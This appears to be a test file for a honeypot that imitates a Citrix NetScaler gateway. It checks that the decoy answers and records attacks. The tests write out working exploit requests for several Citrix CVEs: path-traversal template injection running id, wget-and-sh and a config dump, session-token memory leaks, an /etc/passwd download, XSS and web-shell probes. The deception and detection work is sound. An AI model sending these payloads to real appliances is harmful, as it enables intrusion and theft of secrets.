import { gunzipSync } from 'node:zlib'
import { afterEach, describe, expect, it } from 'vitest'
import citrix from '../../../src/emulators/citrix/index.ts'
import type { defineLure } from '../../../src/sensor/lure.ts'
import { type Playing, play } from '../../harness.ts'
import { type Asking, ask, findsOf } from '../../http/ask.ts'
import { MemoryHosts } from '../../http/memory-hosts.ts'

/** The same lure without TLS, so that tests see the bytes. */
const plain = { ...citrix, ports: [{ transport: 'tcp' as const, port: 443 }] } as ReturnType<typeof defineLure>

let playing: Playing | undefined
afterEach(async () => {
  await playing?.stop()
  playing = undefined
})

async function gateway(options: Record<string, unknown> = {}, hosts = new MemoryHosts()): Promise<Playing> {
  playing = await play(plain, {
    persona: 'plain',
    prompts: 'test/fixtures/prompts',
    hosts,
    options,
    settings: { limits: { connectionsPerSource: 200 } },
  })
  return playing
}

const form = (body: string, headers: Record<string, string> = {}): Asking => ({
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...headers },
  body,
})
const TOKEN = /([0-9a-f]{100}45525d5f4f58455e445a4a42)/

describe('the gateway', () => {
  it('sends the root to the login in the words of the packet engine', async () => {
    const p = await gateway()
    const { head } = await ask(p, 'GET', '/')
    // nmap-service-probes: Citrix NetScaler SSL VPN
    expect(`${head}\r\n`).toMatch(
      /^HTTP\/1\.1 302 Object Moved\r\nLocation: \/vpn\/index\.html\r\n(?:Set-Cookie: NSC_[^\r\n]+\r\n)*?Set-Cookie: NSC_AAAC=xyz;Path=\/;expires=Wednesday, 09-Nov-1999 23:12:40 GMT;Secure\r\n/,
    )
    expect((await ask(p, 'GET', '/vpn/index.html')).body).toContain('<title>Citrix Gateway</title>')
    expect((await ask(p, 'GET', '/nothing')).status).toBe(404)
  })

  it.each([
    ['13.0-47.22', 'fedb4ba86b5edcbc86081f2893dc9fdf', 'Thu, 28 Nov 2019 19:06:22 GMT', '13.0.47.22'],
    ['12.1-55.13', '8c62b39f7068ea2f3d3f7d40860c0cd4', 'Tue, 05 Nov 2019 05:18:47 GMT', '12.1.55.13'],
  ])('of build %s says so in all five places', async (build, hash, time, dotted) => {
    const p = await gateway({ build })
    expect((await ask(p, 'GET', '/vpn/index.html')).body).toContain(`/vpn/js/rdx.js?v=${hash}`)
    expect((await ask(p, 'HEAD', '/vpn/logout.html')).header('last-modified')).toBe(time)
    const packed = (await ask(p, 'GET', '/vpn/js/rdx/core/lang/rdx_en.json.gz')).bytes
    expect([packed.readUInt32LE(4) * 1000, gunzipSync(packed).toString()]).toEqual([Date.parse(time), expect.stringContaining('"log_on"')])
    expect((await ask(p, 'GET', '/vpn/pluginlist.xml')).body).toMatch(new RegExp(`<repository .*version="${dotted}"`))
    expect((await ask(p, 'GET', '/epa/scripts/win/nsepa_setup.exe')).bytes.toString('utf16le')).toContain(dotted)
  })

  it('refuses every login with a cookie that says why, and writes each down', async () => {
    const p = await gateway()
    const reply = await ask(p, 'POST', '/cgi/login', form('login=anna&passwd=summer'))
    expect([reply.status, reply.header('location'), reply.header('set-cookie')]).toEqual([
      302,
      '/vpn/index.html',
      'NSC_VPNERR=4001;Path=/;Secure',
    ])
    const xml = await ask(p, 'POST', '/nf/auth/doAuthentication.do', form('login=anna&passwd=winter'))
    expect(xml.body).toContain('<Result>more-info</Result>')
    expect(p.data('login')).toMatchObject([
      { method: 'form', username: 'anna', password: 'summer', accepted: false },
      { method: 'nfactor', password: 'winter', accepted: false },
    ])
  })
})

describe('CVE-2019-19781', () => {
  it('shows what lies below /vpns/ to who climbs, and 403 to who does not', async () => {
    const p = await gateway()
    const file = await ask(p, 'GET', '/vpn/../vpns/cfg/smb.conf')
    expect([file.status, file.body]).toEqual([200, expect.stringMatching(/^\[global\]\n/)])
    expect((await ask(p, 'GET', '/vpn/%2e%2e/vpns/cfg/smb.conf')).status).toBe(200)
    expect((await ask(p, 'GET', '/vpns/cfg/smb.conf')).status).toBe(403)
    expect((await ask(p, 'GET', '/vpn/../vpns/')).body).toContain("You don't have permission to access /vpns/")
  })

  it('remembers a template and runs its command when it is fetched', async () => {
    const hosts = new MemoryHosts()
    const p = await gateway({}, hosts)
    const plant = (name: string, title: string) =>
      ask(
        p,
        'POST',
        '/vpn/../vpns/portal/scripts/newbm.pl',
        form(new URLSearchParams({ url: 'http://example.com', title, desc: 'd', UI_inuse: 'RfWeb' }).toString(), {
          NSC_USER: `../../../netscaler/portal/templates/${name}`,
        }),
      )
    expect((await plant('abc', "[% template.new({'BLOCK'='print `id`'}) %]")).body).toContain('parent.window.ns_reload')
    expect((await ask(p, 'GET', '/vpn/../vpns/portal/abc.xml')).body).toMatch(/^uid=65534\(nobody\) gid=65534\(nobody\)/)
    const letters = [...'wget x'].map((letter) => `chr(${letter.charCodeAt(0)})`).join(' . ')
    await plant('def', `[% template.new({'BLOCK'='print readpipe(${letters})'}) %]`)
    expect((await ask(p, 'GET', '/vpn/../vpns/portal/def.xml')).body).toMatch(/^ran wget x as nobody\n/)
    expect((await ask(p, 'GET', '/vpn/../vpns/portal/other.xml')).status).toBe(404)
    expect(p.data('citrix.command')).toMatchObject([
      { name: 'abc', command: 'id' },
      { name: 'def', command: 'wget x' },
    ])
    expect(p.events.find(({ type }) => type === 'citrix.template')?.tags).toEqual(expect.arrayContaining(['cve:CVE-2019-19781']))
    expect(p.artifacts.kept.size).toBe(2)
  })

  it.each(['rmpm', 'rmbm', 'picktheme', 'tips'])('is planted through %s.pl as well', async (script) => {
    const p = await gateway()
    const body = new URLSearchParams({ title: "[% template.new({'BLOCK'='print `whoami`'}) %]" }).toString()
    await ask(p, 'POST', `/vpn/../vpns/portal/scripts/${script}.pl`, form(body, { NSC_USER: '../../../netscaler/portal/templates/t1' }))
    expect((await ask(p, 'GET', '/vpns/portal/t1.xml', { headers: { NSC_USER: '/../x' } })).body).toMatch(/^nobody\n/)
  })

  it.each([
    ['uname -a; id', /^FreeBSD ns\d 8\.4-NETSCALER-13\.0 [^\n]+\nuid=65534\(nobody\)/, []],
    ['cd /tmp && uname', /^ran cd \/tmp as nobody\nFreeBSD\n/, ['cd /tmp']],
    ['wget http://x/a && sh a', /^ran wget http:\/\/x\/a && sh a as nobody\n/, ['wget http://x/a && sh a']],
    ["echo 'a;uname'", /^ran echo 'a;uname' as nobody\n/, ["echo 'a;uname'"]],
  ])('answers %s as a FreeBSD, and hands on what is no business of the appliance', async (command, output, ran) => {
    const hosts = new MemoryHosts()
    const p = await gateway({}, hosts)
    const letters = [...command].map((letter) => `chr(${letter.charCodeAt(0)})`).join(' . ')
    const body = new URLSearchParams({ title: `[% template.new({'BLOCK'='print readpipe(${letters})'}) %]` }).toString()
    await ask(p, 'POST', '/vpn/../vpns/portal/scripts/newbm.pl', form(body, { NSC_USER: '../../../netscaler/portal/templates/c' }))
    expect((await ask(p, 'GET', '/vpn/../vpns/portal/c.xml')).body).toMatch(output)
    expect(hosts.commands.map((asked) => asked.command)).toEqual(ran)
  })

  it('gives away a configuration with secrets of this install', async () => {
    const p = await gateway()
    await ask(
      p,
      'POST',
      '/vpn/../vpns/portal/scripts/newbm.pl',
      form("title=[% template.new({'BLOCK'='print `cat /flash/nsconfig/ns.conf`'}) %]".replace(/ /g, '+'), { NSC_USER: '../x/conf' }),
    )
    expect((await ask(p, 'GET', '/vpn/../vpns/portal/conf.xml')).body).toMatch(
      /^#NS13\.0 Build 47\.22\n[\s\S]*-ldapBindDnPassword [0-9a-f]{64} -encrypted/,
    )
  })
})

describe('memory', () => {
  it.each([
    [
      'SAML',
      'POST',
      '/saml/login',
      `SAMLRequest=${encodeURIComponent(Buffer.from('<samlp:AuthnRequest ID="_1"></samlp:AuthnRequest>').toString('base64'))}`,
    ],
    ['WS-Federation', 'GET', '/wsfed/passive?wctx', ''],
  ])('leaks a session in the cookie of a service that %s did not name (CVE-2026-3055)', async (_, method, target, body) => {
    const p = await gateway()
    const reply = await ask(p, method, target, body === '' ? {} : form(body))
    expect(reply.status).toBe(302)
    const [, memory = ''] = /NSC_TASS=([A-Za-z0-9+/]+=*);/.exec(reply.head) ?? []
    const [token = ''] = TOKEN.exec(Buffer.from(memory, 'base64').toString('latin1')) ?? []
    expect(
      (await ask(p, 'POST', '/logon/LogonPoint/Authentication/GetUserName', { headers: { Cookie: `NSC_AAAC=${token}` } })).status,
    ).toBe(200)
    expect(p.events.find(({ type }) => type === 'citrix.exploit')?.tags).toContain('cve:CVE-2026-3055')
    expect((await ask(p, 'GET', '/wsfed/passive?wctx=a')).head).not.toContain('NSC_TASS')
  })

  it('lets a logout of SAML write into the head (CVE-2025-12101)', async () => {
    const p = await gateway()
    const state = Buffer.from('\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>').toString('base64')
    const { bytes } = await ask(p, 'POST', '/cgi/logout', form(`SAMLResponse=eA%3D%3D&RelayState=${encodeURIComponent(state)}`))
    expect(bytes.toString()).toMatch(/^<script>alert\(1\)<\/script>/)
    expect((await ask(p, 'GET', '/cgi/logout')).header('location')).toBe('/vpn/logout.html')
  })

  it('takes a header line of 128 KiB, and keeps a head that is too long for an event', async () => {
    const p = await gateway()
    const host = 'a'.repeat(128 * 1024 - 64)
    expect((await ask(p, 'GET', '/oauth/idp/.well-known/openid-configuration', { headers: { Host: host } })).status).toBe(200)
    const head = p.data<{ how: string; sha256: string }>('artifact').find(({ how }) => how === 'http.head')
    expect(p.artifacts.get(head?.sha256 ?? '')?.toString('latin1')).toContain(`Host: ${host}\r\n`)
  })

  it('leaks a session behind a long Host, and tells whom it was leaked to when it comes back (CVE-2023-4966)', async () => {
    const p = await gateway()
    const short = await ask(p, 'GET', '/oauth/idp/.well-known/openid-configuration')
    expect(JSON.parse(short.body)).toMatchObject({ issuer: 'https://www.test.lan' })
    const long = await ask(p, 'GET', '/oauth/idp/.well-known/openid-configuration', { headers: { Host: 'a'.repeat(24_812) } })
    expect(long.body.startsWith('{"issuer": "https://aaaa')).toBe(true)
    const [token] = TOKEN.exec(long.bytes.toString('latin1'))!
    const user = await ask(p, 'POST', '/logon/LogonPoint/Authentication/GetUserName', { headers: { Cookie: `NSC_AAAC=${token}` } })
    expect([user.status, user.body]).toEqual([200, expect.stringMatching(/^[a-z.-]+$/)])
    expect(p.data('citrix.token')).toMatchObject([{ leakedTo: '127.0.0.1', sameSource: true }])
    const forged = await ask(p, 'POST', '/logon/LogonPoint/Authentication/GetUserName', {
      headers: { Cookie: `NSC_AAAC=${token.replace(/^./, (digit) => (digit === '0' ? '1' : '0'))}` },
    })
    expect(forged.status).toBe(401)
  })

  it('stands in place of a user name that has no value, another each time (CVE-2025-5777)', async () => {
    const p = await gateway()
    const values = await Promise.all(
      [1, 2].map(
        async () =>
          /<InitialValue>([\s\S]*?)<\/InitialValue>/.exec(
            (await ask(p, 'POST', '/p/u/doAuthentication.do', form('login'))).bytes.toString('latin1'),
          )![1],
      ),
    )
    expect(values[0]!.length).toBeGreaterThan(20)
    expect(values[0]).not.toBe(values[1])
  })

  it('is leaked twenty times a minute and no more', async () => {
    const p = await gateway()
    const statuses: number[] = []
    for (let n = 0; n < 22; n++) statuses.push((await ask(p, 'POST', '/p/u/doAuthentication.do', form('login'))).status)
    expect(statuses).toEqual([...Array(20).fill(200), 500, 500])
  })
})

describe('other holes', () => {
  it('keep the code that overflows formssso (CVE-2023-3519)', async () => {
    const p = await gateway()
    const reply = await ask(p, 'GET', `/gwtest/formssso?event=start&target=${'A'.repeat(168)}%cc%90`)
    expect([reply.status, reply.body]).toEqual([500, expect.stringContaining('Http/1.1 Internal Server Error')])
    expect([...p.artifacts.kept.values()][0]!.subarray(-3).toString('hex')).toBe('41cc90')
    expect(p.events.find(({ type }) => type === 'citrix.exploit')?.tags).toContain('cve:CVE-2023-3519')
  })

  it('hand out files to a session of the compliance report (CVE-2020-8193)', async () => {
    const p = await gateway()
    expect(
      (await ask(p, 'POST', '/pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1', form('x')))
        .status,
    ).toBe(406)
    const session = await ask(p, 'GET', '/menu/ss?sid=nsroot&username=nsroot&force_setup=1')
    expect([session.status, session.header('location'), session.head]).toEqual([
      302,
      '/menu/neo',
      expect.stringMatching(/SESSID=[0-9a-f]{32};/),
    ])
    for (const page of ['/menu/neo', '/menu/stc']) expect((await ask(p, 'GET', page)).body).toMatch(/rand = "\d+\.\d+"/)
    expect((await ask(p, 'POST', '/rapi/filedownload?filter=path:%2Fetc%2Fpasswd', form('x'))).body).toMatch(/^root:\*:0:0:Charlie/)
  })
})

describe('what comes after a hole', () => {
  it('reflects a name with markup (CVE-2020-8191)', async () => {
    const p = await gateway()
    const { body } = await ask(p, 'POST', '/menu/stapp', form('sid=254&appname=%3C/title%3E%3Cscript%3Ealert(1)%3C/script%3E&au=1'))
    expect(body).toContain('<title></title><script>alert(1)</script>')
    expect((await p.seen('citrix.exploit')).tags).toEqual(['cve:CVE-2020-8191', 'attack:T1190'])
  })

  it.each([
    '/logon/LogonPoint/uiareas/linux/ctx_sh.php',
    '/vpn/x.php',
    '/netscaler/logon/y.php',
  ])('looks for a shell at %s in vain, and what it was to run is kept', async (target) => {
    const p = await gateway()
    expect((await ask(p, 'POST', target, form('a=system("id");'))).status).toBe(404)
    const event = await p.seen('citrix.exploit')
    expect([event.data, event.tags]).toEqual([{ step: 'web-shell', detail: 'a=system("id");' }, ['attack:T1505.003']])
  })

  it.each(['/saml/login', '/cgi/samlauth'])('writes down the assertion of who looks for SAML at %s', async (target) => {
    const p = await gateway()
    expect((await ask(p, 'POST', target, form('SAMLResponse=eA%3D%3D'))).body).toContain('SAML Assertion verification failed')
    expect((await p.seen('citrix.exploit')).data).toEqual({ step: 'saml', detail: 'eA==' })
  })
})

describe('recorded probes', () => {
  it('for NetScaler find this gateway, all others find nothing', async () => {
    const p = await gateway()
    // The fetch finds what the probe before it has planted.
    expect(await findsOf(p)).toEqual([
      'CVE-2019-19781-fetch',
      'CVE-2019-19781-newbm',
      'CVE-2023-24488',
      'CVE-2023-3519-version',
      'citrix-adc-gateway-panel',
      'citrix-oob-memory-read #2',
      'citrix-vpn-detect',
      'netscaler-pluginlist',
      // A plug-in that does not exist is not there: what this one looks for is the opposite.
      'wp-random-plugin-404',
    ])
    expect(p.events.filter(({ tags }) => tags?.includes('cve:CVE-2023-3519'))).not.toHaveLength(0)
    expect(p.data('lure.fault')).toEqual([])
    expect(p.deadLetters).toEqual([])
  }, 30_000)
})
